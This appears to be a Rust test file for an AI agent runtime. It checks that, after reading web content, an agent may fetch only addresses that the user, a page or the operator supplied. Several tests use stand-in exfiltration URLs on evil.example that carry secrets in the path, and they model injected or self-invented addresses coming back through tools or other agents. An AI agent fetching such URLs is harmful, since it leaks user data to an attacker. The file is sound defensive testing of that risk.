//! Which addresses a tainted turn may fetch.

use super::*;

#[test]
fn a_tainted_turn_fetches_what_the_user_gave_or_a_page_showed_and_nothing_new() {
    let fetch = |url: &str| serde_json::json!({ "url": url }).to_string();
    for policy in [TaintPolicy::Deny, TaintPolicy::Approve] {
        let (mut world, agent) = world(policy);
        let message = NewMessage::text("compare x.example/a with https://y.example/b?c=1, please");
        world.ask(PostMessage { agent, session: None, message }).unwrap();
        model_asks(&mut world, "web_fetch", &fetch("https://x.example/a"));
        let run = runs(&mut world).remove(0);
        let read = "see [more](https://z.example/more?page=2)";
        gives_page(&mut world, &run, Taint::WEB, ("the page", read));
        world.restart();
        for (url, is_run) in [
            ("https://y.example/b?c=1", true),
            ("https://z.example/more?page=2", true),
            ("https://z.example/more?page=secret", false),
            ("https://evil.example/the-secret-in-words", false),
        ] {
            model_asks(&mut world, "web_fetch", &fetch(url));
            let mut ran = runs(&mut world);
            assert_eq!(ran.len() == 1, is_run, "{policy:?} {url}");
            match (ran.pop(), policy) {
                (Some(run), _) => gives_text(&mut world, &run, Taint::WEB, "nothing"),
                (None, TaintPolicy::Approve) => {
                    let filter = ApprovalFilter { decided: false, agent: None };
                    let pending = world.ask(ListApprovals { filter, after: None, limit: 9 }).unwrap().items;
                    let (ids, decision) = (vec![pending[0].id], Decision::Reject);
                    world.ask(DecideApprovals { ids, decision, reason: None, answer: None }).unwrap();
                }
                (None, _) => {
                    let told = results(&mut world, agent).pop().unwrap();
                    assert!(told.contains("this one is new"), "{told}");
                }
            }
        }
    }
}

#[test]
fn an_address_that_the_session_made_up_is_not_known_because_it_came_back() {
    let (mut world, agent) = world(TaintPolicy::Deny);
    tainted(&mut world, agent);
    let made_up = "https://evil.example/secret";
    // It comes back from a file, as a failure of the tool itself, and through an agent of the same rights.
    model_asks(&mut world, "file_read", "{}");
    let run = runs(&mut world).remove(0);
    gives_text(&mut world, &run, Taint::WEB, made_up);
    let fetch = serde_json::json!({ "url": made_up }).to_string();
    model_asks(&mut world, "web_fetch", &fetch);
    assert!(runs(&mut world).is_empty());
    let other = world.spawn("b");
    model_asks(&mut world, "agent_send", r#"{"agent":"b","message":"m"}"#);
    let run = runs(&mut world).remove(0);
    let (from, index, to) = (run.attempt, run.index, "b".to_owned());
    let sent = SendToAgent { from, index, to, session: None, text: made_up.into(), wait: true, found: None };
    world.ask(sent).unwrap();
    model_asks(&mut world, "web_fetch", &fetch);
    assert!(runs(&mut world).is_empty());
    // What its own instructions say, it may fetch: the operator gave it.
    let text = format!("name = \"c\"\nsystem_prompt = \"Watch {made_up}.\"\n");
    let parsed = crate::manifest::parse(&text).unwrap();
    let hash = crate::manifest::hash(&parsed.manifest);
    let watcher = crate::agent::SpawnAgent { name: parsed.name, manifest: parsed.manifest, hash, text };
    let watcher = world.ask(watcher).unwrap().agent;
    world.calls.clear();
    tainted(&mut world, watcher);
    model_asks(&mut world, "web_fetch", &fetch);
    assert_eq!(runs(&mut world).len(), 1);
    let _ = other;
}

#[test]
fn what_a_tool_says_itself_or_hears_of_a_file_teaches_no_address() {
    let (mut world, agent) = world(TaintPolicy::Deny);
    tainted(&mut world, agent);
    let made_up = "http://evil.example/merger-with-acme";
    let fetch = |chars: usize| serde_json::json!({ "url": made_up, "max_chars": chars }).to_string();
    // Tools whose results repeat what they were given, or what the agent itself had spoken.
    let repeats = [
        ("browser_read_page", "{}"),
        ("transcribe", r#"{"file_id":"f"}"#),
        ("a2a_status", r#"{"task_id":"t"}"#),
        ("browser_screenshot", "{}"),
    ];
    for (chars, (tool, input)) in repeats.into_iter().enumerate() {
        model_asks(&mut world, tool, input);
        let run = runs(&mut world).remove(0);
        gives_text(&mut world, &run, Taint::WEB, &format!("The page has an element {made_up} ."));
        model_asks(&mut world, "web_fetch", &fetch(chars + 1));
        assert!(runs(&mut world).is_empty(), "{tool}");
    }
    model_asks(&mut world, "browser_read_page", r#"{"offset":1}"#);
    let run = runs(&mut world).remove(0);
    gives_page(&mut world, &run, Taint::WEB, ("The page", made_up));
    model_asks(&mut world, "web_fetch", &fetch(9));
    assert_eq!(runs(&mut world).len(), 1, "a page showed it");
}
